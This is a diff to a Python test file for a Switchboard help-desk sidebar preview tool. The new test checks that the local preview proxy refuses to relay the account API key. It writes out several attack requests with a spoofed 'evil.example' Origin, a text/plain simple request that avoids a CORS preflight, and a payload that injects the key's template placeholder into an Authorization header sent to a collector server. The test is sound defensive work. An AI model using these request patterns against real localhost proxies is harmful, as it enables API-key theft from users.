@@ -7,6 +7,7 @@ shipped app shows each one's context and grounded suggestions.
 """
 from __future__ import annotations
 
+import json
 import os
 import queue
 import subprocess
@@ -26,6 +27,8 @@ from selenium.webdriver.common.by import By
 from selenium.webdriver.remote.webdriver import WebDriver
 
 from ..assist.test_sidebar_api import key_for
+from ..fakes.loopback import Answer, LoopbackFake
+from ..fakes.loopback import Request as LoopbackRequest
 from .browser import WAIT_SECONDS, SidebarPage, wait_until
 from .test_sidebar_browser import screenshot
 
@@ -59,10 +62,10 @@ def environment(data_dir: Path) -> dict[str, str]:
 
 
 @contextmanager
-def preview(*args: str, cwd: Path) -> Iterator[tuple[str, list[str]]]:
+def preview(*args: str, cwd: Path, port: str | None = "0") -> Iterator[tuple[str, list[str]]]:
     """Run the command until it prints the page's address; yield it with what it printed."""
-    process = subprocess.Popen(command(*args, "--port", "0"), cwd=cwd, env=environment(cwd), stdout=subprocess.PIPE,
-                               stderr=subprocess.STDOUT, text=True)
+    process = subprocess.Popen(command(*args, *(("--port", port) if port else ())), cwd=cwd, env=environment(cwd),
+                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
     lines: queue.Queue[str] = queue.Queue()
     threading.Thread(target=lambda: [lines.put(line.rstrip("\n")) for line in process.stdout or ()],
                      daemon=True).start()
@@ -177,3 +180,57 @@ def _closed_port() -> int:
     with socket.socket() as probe:
         probe.bind(("127.0.0.1", 0))
         return int(probe.getsockname()[1])
+
+
+class _Collector(LoopbackFake):
+    """A server of someone else's, recording what reaches it."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.seen: list[LoopbackRequest] = []
+
+    def answer(self, request: LoopbackRequest) -> Answer:
+        self.seen.append(request)
+        return Answer(200, {"ok": True})
+
+
+def test_the_preview_proxy_is_no_relay_for_the_api_key(live_switchboard: str, key_file: Path,
+                                                        tmp_path: Path) -> None:
+    """Any web page the user has open can post to a port on 127.0.0.1. The stand-in proxy
+    puts the account API key into {{setting.token}}: it must answer only its own page
+    (Origin, a JSON body, the secret the page's address carries for this run) and only
+    send to the Switchboard it previews. It listens on a port of its own choosing."""
+    key = key_file.read_text().strip()
+    with _Collector() as elsewhere, preview("--url", live_switchboard, "--key-file", str(key_file),
+                                            cwd=tmp_path, port=None) as (url, _):
+        page = urlsplit(url)
+        assert page.port != 8010  # no fixed, guessable port
+        proxy = f"{page.scheme}://{page.netloc}/__zendesk_proxy"
+        secret = parse_qs(page.query)["preview_secret"][0]
+        steal = {"url": f"{elsewhere.origin}/collect", "type": "GET", "secure": True,
+                 "headers": {"Authorization": "Bearer {{setting.token}}"}}
+        sidebar = {**steal, "url": f"{live_switchboard}/api/sidebar/tickets/1"}
+        own = f"{page.scheme}://{page.netloc}"
+        attempts = {
+            # a page on another site: a "simple" request, no preflight, no secret
+            "cross-site form post": requests.post(proxy, data=json.dumps(steal), timeout=10, headers={
+                "Origin": "https://evil.example", "Content-Type": "text/plain"}),
+            "cross-site with the secret": requests.post(proxy, json=steal, timeout=10, headers={
+                "Origin": "https://evil.example", "X-Preview-Secret": secret}),
+            "no origin, no secret": requests.post(proxy, json=sidebar, timeout=10),
+            "own origin, wrong secret": requests.post(proxy, json=sidebar, timeout=10, headers={
+                "Origin": own, "X-Preview-Secret": "guess"}),
+            "own origin and secret, as text": requests.post(proxy, data=json.dumps(sidebar), timeout=10, headers={
+                "Origin": own, "X-Preview-Secret": secret, "Content-Type": "text/plain"}),
+            "own page, another server": requests.post(proxy, json=steal, timeout=10, headers={
+                "Origin": own, "X-Preview-Secret": secret}),
+        }
+        for what, response in attempts.items():
+            assert response.status_code in (400, 403, 415), (what, response.status_code, response.text)
+        assert elsewhere.seen == []
+        tickets = requests.get(f"{own}/__tickets", timeout=10, headers={"Origin": "https://evil.example"})
+        assert tickets.status_code == 403
+        # The page itself, as its script asks: relayed to Switchboard with the key.
+        allowed = requests.post(proxy, json=sidebar, timeout=10, headers={"Origin": own, "X-Preview-Secret": secret})
+        assert allowed.status_code == 200 and allowed.json()["status"] == 404, allowed.text  # no ticket 1: reached
+    assert all(key not in str(r.headers) + r.path for r in elsewhere.seen)
